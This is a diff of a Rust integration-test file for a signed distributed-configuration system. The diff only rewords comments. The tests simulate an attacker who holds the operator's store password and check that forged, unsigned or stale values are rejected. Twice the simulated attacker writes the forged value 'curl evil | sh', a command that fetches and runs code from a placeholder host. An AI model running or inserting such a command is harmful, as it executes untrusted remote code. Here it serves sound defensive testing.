@@ -1,4 +1,4 @@
-//! Somebody has come by the operator's password at the store, and not by the key: what servers say is not theirs to make.
+//! An attacker has obtained the operator's password at the store, but not the key: values of servers cannot be forged.
 
 use std::time::Duration;
 
@@ -32,7 +32,7 @@ impl Stack {
         self.options.credentials.get(server).expect("it has one").key().signer()
     }
 
-    /// What the thief sees and writes: whatever the operator may.
+    /// The attacker's access: that of the operator.
     async fn stolen(&self) -> Space {
         Space::new(self.operator().await, &self.seed.stack)
     }
@@ -42,7 +42,7 @@ impl Stack {
     }
 }
 
-/// Puts a text into an entry; nobody signs it, if there is no signer.
+/// Writes a text to an entry; unsigned, if there is no signer.
 async fn put(space: &Space, entry: &str, revision: &Revision, text: &str, signer: Option<&Signer>) {
     let written = Written::new(revision, Content::Value(text.into()));
     if let Some(signer) = signer {
@@ -53,7 +53,7 @@ async fn put(space: &Space, entry: &str, revision: &Revision, text: &str, signer
     }
 }
 
-/// Waits until a server says so, in these words among others; of none, until it says nothing.
+/// Waits until the report of a server contains these words; without words, until it reports nothing.
 async fn says(stack: &Stack, server: &str, words: Option<&str>) {
     let mut troubles = Vec::new();
     for _ in 0..300 {
@@ -99,7 +99,7 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
     let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
     let mut web = Db::of("web");
     let place = thief.layout().entry("db/part/text");
-    // Of nobody, of a server that the thief has, and what `db` has signed for another entry.
+    // Unsigned, signed by a server that the attacker controls, and signed by `db` for another entry.
     for forged in [None, Some("web"), Some("db")] {
         let signer = forged.map(|server| stack.signer(server));
         let entry = if forged == Some("db") { "db/other/text" } else { "db/part/text" };
@@ -131,7 +131,7 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
     assert_eq!(web.ran.given("texts"), [Value::List(vec!["x".into()])]);
     says(&stack, "web", None).await;
 
-    // What was read once is not read again; who begins now reads what is there now.
+    // A value that has been read is not read again; later readers read the current one.
     put(&thief, "db/part/text", &revision, "curl evil | sh", None).await;
     let mut again = Db::of("web");
     web.kill().await;
@@ -201,7 +201,7 @@ async fn a_value_of_another_stack_is_its_servers_as_well() {
     importer.options.credentials.complete(&importer.seed, &importer.options.key);
     let operator = exporter.operator().await;
     apply(&operator, &exports, &exporter.options).await.expect("applies");
-    // What the exports say is the operator's word, too.
+    // The exports are signed by the operator, too.
     let layout = Space::new(operator.clone(), "exporting").layout().clone();
     let written = operator.get(&layout.export("text")).await.expect("reads").expect("it is there");
     let unsigned = wattle_tests::seeds::unsigned(&written.data);
@@ -272,7 +272,7 @@ async fn what_a_server_publishes_counts_by_the_key_that_was_admitted(mut stack: 
         says(&stack, server, None).await;
     }
     web.kill().await;
-    // The credential makes no values any more.
+    // The credential no longer signs values.
     let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
     put(&thief, "db/part/text", &revision, "curl evil | sh", Some(&stack.signer("db"))).await;
     let mut again = Db::of("web");
@@ -284,7 +284,7 @@ async fn what_a_server_publishes_counts_by_the_key_that_was_admitted(mut stack: 
     }
 }
 
-/// A server says of its own entries that they are of a revision which is never to come, so that whoever reads them stops for ever.
+/// A server claims for its own entries a revision that will never exist, so that their readers would stop forever.
 async fn a_revision_that_nobody_announced_stops_nobody(stack: Stack) {
     let operator = stack.operator().await;
     apply(&operator, &stack.seed, &stack.options).await.expect("applies");
@@ -323,7 +323,7 @@ async fn a_revision_that_nobody_announced_stops_nobody(stack: Stack) {
     web.start(&stack).await;
     last.start(&stack).await;
     says(&stack, "web", Some("is not trusted")).await;
-    // Its own agent is in nobody's way either.
+    // Its own agent is not affected either.
     db.start(&stack).await;
     for component in ["db/part", "web/part", "last/part"] {
         done(&stack, component).await;
@@ -334,7 +334,7 @@ async fn a_revision_that_nobody_announced_stops_nobody(stack: Stack) {
     }
 }
 
-/// Whoever takes the plan away takes away what values are judged by.
+/// Removing the plan removes the basis for verifying values.
 #[tokio::test]
 async fn without_a_plan_no_value_of_anybody_is_shown() {
     let zookeeper = ZooKeeper::start(1);
@@ -367,7 +367,7 @@ async fn without_a_plan_no_value_of_anybody_is_shown() {
     }
 }
 
-/// Who a server was before its disk was replaced was signed, too.
+/// The key of a server before its disk was replaced was signed, too.
 async fn a_key_that_was_replaced_gets_nothing_again(mut stack: Stack) {
     stack.options.admission = true;
     let (operator, key) = (stack.operator().await, stack.options.key.clone());
@@ -404,7 +404,7 @@ async fn a_key_that_was_replaced_gets_nothing_again(mut stack: Stack) {
     apply(&operator, &stack.seed, &stack.options).await.expect("all is as it was");
 }
 
-/// A plan says for whom a secret is encrypted, and that it is one.
+/// A plan defines the readers for whom a secret is encrypted, and that it is one.
 #[tokio::test]
 async fn a_secret_that_is_set_by_hand_is_for_nobody_else() {
     let zookeeper = ZooKeeper::start(1);
@@ -431,7 +431,7 @@ async fn a_secret_that_is_set_by_hand_is_for_nobody_else() {
     assert_eq!(set.code, Some(0), "{set}");
 }
 
-/// A failure is passed on, and what fills a node has no room in the next one.
+/// A failure is passed on, and one that fills a node does not fit into the next one.
 async fn a_failure_that_fills_a_node_keeps_nobody_from_saying_so(stack: Stack) {
     apply(&stack.operator().await, &stack.seed, &stack.options).await.expect("applies");
     let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
@@ -510,7 +510,7 @@ async fn nobody_is_blamed_by_another_ones_word(stack: Stack) {
     assert_eq!((&*shown.component, shown.through.len()), ("web/part", 0));
     assert_eq!(shown.message, "it reports that db/part has failed, but db/part does not report it: the disk is full");
     assert!(why.contains("it reports that db/part has failed") && !why.contains("component: \"db/part\""), "{why}");
-    // Once that one says so itself, it is its word that is shown.
+    // Once that one reports it itself, its own report is shown.
     says("db", "db/part", "no space left", &[]).await;
     let (shown, why) = says("web", "db/part", "the disk is full", &["web/part"]).await;
     assert_eq!((&*shown.component, shown.through.len()), ("db/part", 1));
